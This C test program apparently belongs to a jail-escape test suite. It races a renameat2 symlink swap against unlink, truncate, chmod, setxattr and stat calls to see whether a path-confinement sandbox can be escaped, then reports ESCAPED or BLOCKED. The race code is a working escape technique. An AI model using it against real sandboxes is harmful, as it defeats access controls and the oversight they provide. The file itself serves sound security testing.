/* esc_race_path CALL DIR LINK [SECONDS]
 *
 * TOCTOU on path calls that do not open: the kernel walks the path again
 * after jail checked it. DIR is a real directory in an allowed tree;
 * LINK, next to it, is a symlink to a forbidden directory holding its own
 * "file" (5 bytes, mode 0644, an old mtime). Thread B swaps the two names
 * with renameat2(RENAME_EXCHANGE) over and over, while thread A makes
 * CALL on DIR/file and puts an empty DIR/file back (through a descriptor
 * of the real directory, opened before the race):
 *	unlink, truncate (to 0), utimes (to 1e9), chmod (0600),
 *	setxattr (user.jail): they change the forbidden file when the
 *		kernel resolves DIR to the symlink; the script looks at it
 *		afterwards (the program may not look there itself).
 *	stat: the program sees the forbidden file's size (5): ESCAPED.
 * Otherwise it reports what it tried; exit 0.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/xattr.h>
#include <time.h>

#include "esc.h"

static const char *dir, *lnk;
static volatile int stop;

static void *swapper(void *arg)
{
	(void)arg;
	while (!stop) {
		/* in pairs: DIR ends a directory */
		syscall(SYS_renameat2, AT_FDCWD, dir, AT_FDCWD, lnk, 2);
		syscall(SYS_renameat2, AT_FDCWD, dir, AT_FDCWD, lnk, 2);
	}
	return NULL;
}

/* One try of the call: 0 done, -1 with errno. */
static int attempt(const char *call, const char *file, struct stat *st)
{
	static const struct timeval tv[2] = { { 1000000000, 0 },
					      { 1000000000, 0 } };

	if (strcmp(call, "unlink") == 0)
		return unlink(file);
	if (strcmp(call, "truncate") == 0)
		return truncate(file, 0);
	if (strcmp(call, "utimes") == 0)
		return utimes(file, tv);
	if (strcmp(call, "chmod") == 0)
		return chmod(file, 0600);
	if (strcmp(call, "setxattr") == 0)
		return setxattr(file, "user.jail", "x", 1, 0);
	if (strcmp(call, "stat") == 0)
		return stat(file, st);
	verdict(SETUP, "unknown call %s", call);
}

int main(int argc, char **argv)
{
	double secs = argc > 4 ? atof(argv[4]) : 3;
	unsigned long tries = 0, done = 0, refused = 0;
	const char *call;
	struct timespec t0, t;
	struct stat st;
	char file[512];
	pthread_t th;
	int real, fd;

	if (argc < 4)
		verdict(SETUP, "usage: esc_race_path CALL DIR LINK [SECONDS]");
	call = argv[1];
	dir = argv[2];
	lnk = argv[3];
	snprintf(file, sizeof(file), "%s/file", dir);
	real = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (real < 0)
		verdict(SETUP, "open %s: %s", dir, en(errno));
	if (pthread_create(&th, NULL, swapper, NULL))
		verdict(SETUP, "pthread_create");
	clock_gettime(CLOCK_MONOTONIC, &t0);
	do {
		tries++;
		st.st_size = 0;
		if (attempt(call, file, &st) == 0)
			done++;
		else if (errno != ENOENT)
			refused++;
		if (st.st_size == 5) {
			stop = 1;
			pthread_join(th, NULL);
			verdict(ESCAPED, "%s saw the forbidden file (try %lu)",
				call, tries);
		}
		fd = openat(real, "file", O_CREAT | O_WRONLY | O_TRUNC |
			    O_CLOEXEC, 0644);
		if (fd >= 0)
			close(fd);
		clock_gettime(CLOCK_MONOTONIC, &t);
	} while ((double)(t.tv_sec - t0.tv_sec) +
		 (double)(t.tv_nsec - t0.tv_nsec) / 1e9 < secs);
	stop = 1;
	pthread_join(th, NULL);
	verdict(BLOCKED, "%lu %s calls tried, %lu done, %lu refused "
		"(the script checks the forbidden file)", tries, call, done,
		refused);
}
